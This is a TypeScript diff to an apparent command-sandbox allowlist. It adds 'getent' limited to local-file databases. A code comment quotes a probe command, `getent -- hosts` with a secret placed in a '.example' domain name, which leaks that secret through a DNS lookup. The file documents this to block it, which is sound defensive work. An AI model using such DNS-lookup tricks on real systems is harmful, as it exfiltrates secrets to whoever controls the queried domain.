@@ -98,7 +98,16 @@ const openssl: VerbTool = {
  *  value does: openssl's own parser splits `-in=http://…` at the `=` (a probe of stop 67 sent lines that way). */
 const URI = /^(?:-[^=]*=)?[A-Za-z][A-Za-z0-9+.-]*:/;
 
-const TOOLS: Record<string, VerbTool> = { systemctl, kubectl, docker, pg_ctl, openssl };
+// getent's first operand is the database: only those NSS reads from local files in a usual setup. Not hosts, ahosts*,
+// networks: glibc's dns module sends the key to the resolver, and so to whoever runs the key's domain (a probe of
+// stop 68: `getent -- hosts "${'$'}{{ secret }}.example"` sent the secret out in a query, in a dry run too); not -s.
+const GETENT_OPTIONS: Options = { flags: 'i', long: 'no-idn', anyOptionReads: true };
+const getent: VerbTool = {
+  global: GETENT_OPTIONS, anywhere: true,
+  verbs: Object.fromEntries(['passwd', 'group', 'services', 'protocols', 'rpc'].map((v) => [v, GETENT_OPTIONS])),
+};
+
+const TOOLS: Record<string, VerbTool> = { systemctl, kubectl, docker, pg_ctl, openssl, getent };
 
 /** Every reviewed verb of every verb tool, with the options it accepts: for the tests and the docs. */
 export function reviewedVerbs(): { words: string[]; options: Options }[] {
